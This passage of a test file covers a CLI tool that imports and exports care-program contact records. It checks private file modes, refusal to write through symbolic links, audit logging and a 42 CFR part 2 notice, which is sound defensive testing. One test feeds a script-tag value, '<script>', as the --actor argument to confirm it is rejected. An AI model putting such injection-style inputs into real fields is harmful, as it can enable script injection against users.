    const json = await cli('import', '--program', 'wilmington', '--file', path.join(dir, 'bad.csv'), '--json');
    expect(json.code).toBe(1);
    expect(JSON.parse(json.stdout)).toEqual({
      ok: false,
      errors: [{ line: 2, column: 'source', message: expect.stringContaining('"calls" is not one of') }],
    });
    const text = await cli('import', '--program', 'wilmington', '--file', path.join(dir, 'bad.csv'));
    expect(text.code).toBe(1);
    expect(text.stdout).toBe('');
    expect(text.stderr).toContain('line 2, column source: "calls" is not one of call_for_service');
    expect(text.stderr).toContain('nothing was imported');
    expect(await env.db.prisma.contact.count()).toBe(0);
  });

  it('exports CSV to stdout, with notes only when asked', async () => {
    await cli('import', '--program', 'wilmington', '--file', path.join(dir, 'good.csv'));
    const plain = await cli('export', '--program', 'wilmington', '--from', '2024-07-01', '--to', '2024-09-30');
    expect(plain.code).toBe(0);
    expect(plain.stdout.split('\r\n')[0]).toBe(
      'contact_number,client_code,contact_date,source,services,referrals,disposition,sex,age_band,incident_ref,minutes_on_scene,follow_up_date,on_scene,transport_destination,race_ethnicity,veteran',
    );
    expect(plain.stdout).not.toContain('CANARY');
    const notes = await cli(
      'export',
      '--program',
      'wilmington',
      '--from',
      '2024-07-01',
      '--to',
      '2024-09-30',
      '--include-notes',
    );
    expect(notes.stdout).toContain('CANARY');
    const bad = await cli('export', '--program', 'wilmington', '--from', '2024-09-31', '--to', '2024-10-01');
    expect([bad.code, bad.stderr]).toEqual([2, 'carelog export: --from must be a date such as 2024-09-30\n']);
  });

  it('writes --out only as a new private file, never through a link, and names who ran it', async () => {
    ok(await run(wilmington, GOOD));
    const exportTo = (...args: string[]) =>
      cli('export', '--program', 'wilmington', '--from', '2024-07-01', '--to', '2024-09-30', ...args);
    const exports = () =>
      env.db.prisma.auditEvent.findMany({
        where: { action: { startsWith: 'contact.export' } },
        orderBy: { id: 'asc' },
      });
    const me = { osUser: os.userInfo().username, host: os.hostname() };

    // A new file: 0600, audited with the roster member --actor names and the account that ran it.
    const file = path.join(dir, 'out.csv');
    const made = await exportTo('--out', file, '--actor', 'U0CLIN1');
    expect([made.code, made.stderr]).toEqual([0, `exported 5 contact(s) to ${file}\n`]);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect((await exports()).map((a) => [a.action, a.actorId, a.details])).toEqual([
      [
        'contact.export',
        directory.member('wilmington', 'slack', 'U0CLIN1')!.memberId,
        { ...me, actor: 'U0CLIN1', notes: false, part2: false },
      ],
    ]);

    // An existing file, or a link (even with --force): one line saying what to do, exit 1, nothing written.
    writeFileSync(path.join(dir, 'target.csv'), 'keep');
    symlinkSync(path.join(dir, 'target.csv'), path.join(dir, 'link.csv'));
    const exists = await exportTo('--out', file);
    expect([exists.code, exists.stdout, exists.stderr]).toEqual([
      1,
      '',
      `carelog export: ${file} already exists: name a new file, or add --force to replace it\n`,
    ]);
    const viaLink = await exportTo('--out', path.join(dir, 'link.csv'), '--force');
    expect([viaLink.code, viaLink.stderr]).toEqual([
      1,
      `carelog export: ${path.join(dir, 'link.csv')} is a symbolic link: name the file itself (carelog never writes through a link)\n`,
    ]);
    expect(readFileSync(path.join(dir, 'target.csv'), 'utf8')).toBe('keep');
    expect(lstatSync(path.join(dir, 'link.csv')).isSymbolicLink()).toBe(true);
    const badActor = await exportTo('--out', path.join(dir, 'never.csv'), '--actor', '<script>');
    expect([badActor.code, badActor.stderr.split('\n').length]).toEqual([1, 2]);
    expect(badActor.stderr).toMatch(/^carelog export: --actor must name who runs the command/);
    expect(readdirSync(dir)).not.toContain('never.csv');
    expect(await exports()).toHaveLength(1);

    // --force replaces a file (mode 0644, with a second link to it) instead of writing into it.
    const old = path.join(dir, 'old.csv');
    writeFileSync(old, 'old');
    chmodSync(old, 0o644);
    linkSync(old, path.join(dir, 'old-link.csv'));
    const forced = await exportTo('--out', old, '--force', '--include-part2');
    expect(forced.code).toBe(0);
    expect(statSync(old).mode & 0o777).toBe(0o600);
    expect(readFileSync(old, 'utf8')).toMatch(
      /^# NOTICE: 42 CFR part 2 prohibits unauthorized use or disclosure of these records\.\r\ncontact_number,/,
    );
    expect(readFileSync(path.join(dir, 'old-link.csv'), 'utf8')).toBe('old');
    expect(readdirSync(dir).filter((f) => f.endsWith('.tmp'))).toEqual([]);
    expect((await exports()).at(-1)).toMatchObject({
      action: 'contact.export_part2',
      actorId: null,
      details: { ...me, actor: null, part2: true },
    });

    // The file with its notice imports back.
    const back = await cli('import', '--program', 'copy', '--file', old, '--json');
    expect([back.code, JSON.parse(back.stdout)]).toMatchObject([0, { ok: true, summary: { contactsCreated: 5 } }]);
  }, 120_000);
});
